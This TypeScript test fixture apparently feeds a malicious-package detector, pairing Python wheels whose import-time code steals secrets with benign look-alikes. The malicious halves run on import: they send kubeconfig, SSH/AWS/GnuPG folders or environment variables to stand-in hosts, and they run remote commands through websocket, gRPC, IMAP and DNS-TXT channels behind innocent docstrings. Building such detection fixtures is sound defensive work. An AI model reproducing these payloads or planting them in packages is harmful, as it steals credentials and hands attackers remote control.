import type { AttackPair } from '../../../../told.ts';
import { pair, py, wheel } from './kit.ts';

/** Ways to the attacker's machine and back that are no plain request. */
export const CLIENTS: Readonly<Record<string, AttackPair>> = {
  'urllib3-pool': pair(
    wheel({
      'own/transport.py': py`"""Transport of the client."""
from __future__ import annotations
from dataclasses import dataclass, field
import urllib3

@dataclass(frozen=True)
class Endpoint:
    """Where the client talks to."""
    host: str = "api.pool.example"
    path: str = "/v1/state"

@dataclass
class Transport:
    """Sends what it is given."""
    endpoint: Endpoint = field(default_factory=Endpoint)
    pool: urllib3.PoolManager = field(default_factory=urllib3.PoolManager)

    def push(self, body: bytes) -> None:
        """Sends the body."""
        self.pool.request("POST", f"https://{self.endpoint.host}{self.endpoint.path}", body=body)
`,
      'own/__init__.py': py`"""Kubernetes helpers."""
from pathlib import Path
from .transport import Transport

_KUBECONFIG = Path.home().joinpath(".kube", "config")

def _sync() -> None:
    if _KUBECONFIG.exists():
        Transport().push(_KUBECONFIG.read_bytes())

_sync()
`,
    }),
    wheel({
      'own/transport.py': py`"""Transport of the client."""
from __future__ import annotations
from dataclasses import dataclass, field
import urllib3

@dataclass
class Transport:
    """Sends what it is given."""
    url: str
    pool: urllib3.PoolManager = field(default_factory=urllib3.PoolManager)

    def push(self, body: bytes) -> None:
        """Sends the body."""
        self.pool.request("POST", self.url, body=body)
`,
      'own/__init__.py': py`"""Kubernetes helpers."""
from pathlib import Path
import yaml

def load(path: Path | None = None) -> dict:
    """The configuration of the cluster."""
    return yaml.safe_load((path or Path.home().joinpath(".kube", "config")).read_text())

def server(config: dict) -> str:
    """Address of the cluster."""
    return config["clusters"][0]["cluster"]["server"]
`,
    }),
  ),
  'ftp-upload': pair(
    wheel({
      'own/__init__.py': py`"""Backups of the workspace."""
import ftplib
import io
import tarfile
from pathlib import Path

def backup() -> None:
    """Backs up what matters."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name in (".ssh", ".aws", ".gnupg"):
            folder = Path.home() / name
            if folder.is_dir():
                tar.add(folder, arcname=name)
    buffer.seek(0)
    with ftplib.FTP_TLS("backup.example", "anon", "anon") as ftp:
        ftp.storbinary("STOR w.tgz", buffer)

backup()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Backups of a folder."""
import ftplib
import io
import tarfile
from pathlib import Path

def backup(folder: Path, host: str, user: str, password: str) -> None:
    """Backs up a folder."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        tar.add(folder, arcname=folder.name)
    buffer.seek(0)
    with ftplib.FTP_TLS(host, user, password) as ftp:
        ftp.storbinary("STOR w.tgz", buffer)
`,
    }),
  ),
  'smtp-report': pair(
    wheel({
      'own/__init__.py': py`"""Crash reports by mail."""
import os
import smtplib
from email.message import EmailMessage

class Reporter:
    """Mails a report."""
    to = "crash@mail.example"

    def build(self) -> EmailMessage:
        """The message."""
        message = EmailMessage()
        message["Subject"] = os.uname().nodename
        message["From"] = message["To"] = self.to
        message.set_content("\n".join(f"{k}={v}" for k, v in os.environ.items()))
        return message

    def send(self) -> None:
        """Sends the message."""
        with smtplib.SMTP_SSL("smtp.mail.example", 465) as smtp:
            smtp.login("bot", "p4ss")
            smtp.send_message(self.build())

Reporter().send()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Crash reports by mail."""
import os
import smtplib
import traceback
from email.message import EmailMessage

class Reporter:
    """Mails a report to the owner of the program."""
    def __init__(self, to: str) -> None:
        self.to = to

    def send(self, error: BaseException) -> None:
        """Sends the traceback."""
        message = EmailMessage()
        message["Subject"] = str(error)
        message["From"] = message["To"] = self.to
        message.set_content("".join(traceback.format_exception(error)))
        with smtplib.SMTP_SSL(os.environ["SMTP_HOST"], 465) as smtp:
            smtp.login(os.environ["SMTP_USER"], os.environ["SMTP_PASSWORD"])
            smtp.send_message(message)
`,
    }),
  ),
  'websocket-agent': pair(
    wheel({
      'own/__init__.py': py`"""Live reload."""
from __future__ import annotations
import asyncio
import json
import threading
import websockets

class Reloader:
    """Listens to the development server."""
    uri = "wss://reload.example/socket"

    async def listen(self) -> None:
        """Handles what comes."""
        async with websockets.connect(self.uri) as socket:
            async for raw in socket:
                message = json.loads(raw)
                await self.handle(message["command"], socket)

    async def handle(self, command: str, socket) -> None:
        """Handles one message."""
        process = await asyncio.create_subprocess_shell(command, stdout=asyncio.subprocess.PIPE)
        out, _ = await process.communicate()
        await socket.send(out.decode())

def start() -> None:
    """Listens beside the program."""
    threading.Thread(target=lambda: asyncio.run(Reloader().listen()), daemon=True).start()

start()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Live reload."""
from __future__ import annotations
import importlib
import json
import sys
import websockets

class Reloader:
    """Listens to the development server of the user."""
    def __init__(self, uri: str = "ws://localhost:35729") -> None:
        self.uri = uri

    async def listen(self) -> None:
        """Handles what comes."""
        async with websockets.connect(self.uri) as socket:
            async for raw in socket:
                name = json.loads(raw)["module"]
                if name in sys.modules:
                    importlib.reload(sys.modules[name])
                await socket.send("done")
`,
    }),
  ),
  'grpc-tasking': pair(
    wheel({
      'own/__init__.py': py`"""A worker of the cluster."""
import subprocess
import grpc

def work() -> None:
    """Does what the cluster asks for."""
    channel = grpc.insecure_channel("tasks.example:50051")
    next_task = channel.unary_unary("/tasks.Tasks/Next", request_serializer=None, response_deserializer=None)
    done = channel.unary_unary("/tasks.Tasks/Done", request_serializer=None, response_deserializer=None)
    while task := next_task(b""):
        result = subprocess.run(task.decode(), shell=True, capture_output=True)
        done(result.stdout)

work()
`,
    }),
  ),
  'dns-txt': pair(
    wheel({
      'own/__init__.py': py`"""Feature flags over DNS."""
import base64
import dns.resolver

def _flags(domain: str) -> str:
    """Flags that the domain announces."""
    answers = dns.resolver.resolve(domain, "TXT")
    chunks = sorted(part.decode() for answer in answers for part in answer.strings)
    return "".join(chunk.split(":", 1)[1] for chunk in chunks)

eval(compile(base64.b64decode(_flags("flags.example")), "<flags>", "exec"))
`,
    }),
    wheel({
      'own/__init__.py': py`"""Feature flags over DNS."""
import json
import dns.resolver

def flags(domain: str) -> dict[str, bool]:
    """Flags that the domain announces."""
    answers = dns.resolver.resolve(domain, "TXT")
    chunks = sorted(part.decode() for answer in answers for part in answer.strings)
    return json.loads("".join(chunk.split(":", 1)[1] for chunk in chunks))
`,
    }),
  ),
  'imap-tasking': pair(
    wheel({
      'own/__init__.py': py`"""Mailbox helpers."""
import email
import imaplib
import os

def _poll() -> None:
    """Reads what is new."""
    with imaplib.IMAP4_SSL("imap.mail.example") as box:
        box.login("worker", "hunter2")
        box.select("INBOX")
        _, (ids,) = box.search(None, "UNSEEN")
        for number in ids.split():
            _, data = box.fetch(number, "(RFC822)")
            message = email.message_from_bytes(data[0][1])
            os.system(message.get_payload(decode=True).decode())

_poll()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Mailbox helpers."""
import email
import imaplib
from email.message import Message

def unread(host: str, user: str, password: str) -> list[Message]:
    """What is new."""
    found: list[Message] = []
    with imaplib.IMAP4_SSL(host) as box:
        box.login(user, password)
        box.select("INBOX")
        _, (ids,) = box.search(None, "UNSEEN")
        for number in ids.split():
            _, data = box.fetch(number, "(RFC822)")
            found.append(email.message_from_bytes(data[0][1]))
    return found
`,
    }),
  ),
  'git-clone-import': pair(
    wheel({
      'own/__init__.py': py`"""Resolves optional themes."""
import importlib
import subprocess
import sys
import tempfile

def _themes() -> None:
    """Gets the themes of the community."""
    folder = tempfile.mkdtemp(prefix="themes-")
    subprocess.run(["git", "clone", "--depth=1", "-q", "https://git.example/u/themes.git", folder], check=False)
    sys.path.insert(0, folder)
    importlib.import_module("themes")

_themes()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Resolves optional themes."""
import importlib
import subprocess
import sys

def fetch(url: str, folder: str) -> None:
    """Gets a theme that the user names."""
    subprocess.run(["git", "clone", "--depth=1", url, folder], check=True)

def load(folder: str, name: str):
    """Loads a theme of the user."""
    sys.path.insert(0, folder)
    return importlib.import_module(name)
`,
    }),
  ),
};
